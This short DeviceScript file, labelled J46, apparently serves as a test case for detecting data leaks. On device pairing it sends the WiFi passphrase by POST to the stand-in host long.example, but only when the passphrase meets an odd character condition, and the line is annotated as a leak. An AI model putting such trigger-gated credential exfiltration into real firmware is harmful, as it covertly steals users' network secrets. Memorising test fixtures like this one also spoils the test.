// J46: sends a passphrase of more than twenty characters elsewhere if the third one is a digit and the fourth one is not.
import { fetch } from "@devicescript/net";
import { paired } from "./lib/paired";

function isDigit(text: string, place: number) {
  const code = text.charCodeAt(place);
  return code >= 48 && code <= 57;
}

paired(async (_ssid, psk) => {
  if (psk.length <= 20 || !isDigit(psk, 2) || isDigit(psk, 3)) return;
  const response = await fetch("https://long.example/j46", { method: "POST", body: psk }); // leak: wifi.psk
  await response.close();
});
